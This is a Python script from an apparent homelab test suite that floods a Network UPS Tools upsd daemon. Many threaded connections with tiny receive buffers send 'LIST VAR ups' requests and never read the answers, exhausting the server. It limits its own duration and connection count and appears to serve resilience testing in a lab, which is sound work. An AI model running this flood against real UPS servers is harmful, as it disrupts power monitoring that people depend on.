# Copyright (c) 2026, The homelab.nut contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Attack upsd as a compromised machine could: send requests on several connections and never read an answer.

The attack ends after SECONDS and makes at most LIMIT connections. The lab passes this file's text to a machine's Python, so it
imports the standard library only: python3 - HOST PORT SECONDS CONNECTIONS.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time

LIMIT = 20000
BUFFER = 512  # bytes that upsd reads from a client at once
# as much as fits into what upsd reads at once: long answers, which fill all buffers, and then as many short ones as can be
LONG = b"LIST VAR ups\n" * (BUFFER // len(b"LIST VAR ups\n"))
SHORT = b"\n" * (BUFFER - 1)


class Attack:
    """The attack. Each thread opens one connection after another."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        """Start the clock."""
        self.place, self.end = (host, port), time.monotonic() + seconds
        self.left = LIMIT
        self.lock = threading.Lock()

    def is_active(self) -> bool:
        """Return whether neither the time nor the connections are used up."""
        return time.monotonic() < self.end and self.left > 0

    def keep_connecting(self) -> None:
        """Connect again whenever upsd has closed the connection."""
        while self.is_active():
            with self.lock:
                self.left -= 1
            with contextlib.suppress(OSError), socket.socket() as connection:
                # the smallest buffer, so that upsd's side fills up sooner
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                connection.settimeout(2.0)
                connection.connect(self.place)
                self.flood_connection(connection)
            time.sleep(0.02)

    def flood_connection(self, connection: socket.socket) -> None:
        """Send requests without reading until upsd closes the connection."""
        connection.settimeout(0.2)
        connection.sendall(LONG)
        while self.is_active():
            with contextlib.suppress(TimeoutError, socket.timeout):
                connection.sendall(SHORT)
                connection.sendall(LONG)


def main() -> None:
    """Run the attack that the command line describes."""
    host, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    attack = Attack(host, port, min(seconds, 600.0))
    for _number in range(min(connections, 100)):
        threading.Thread(target=attack.keep_connecting, daemon=True).start()
    while attack.is_active():
        time.sleep(0.1)


if __name__ == "__main__":
    main()
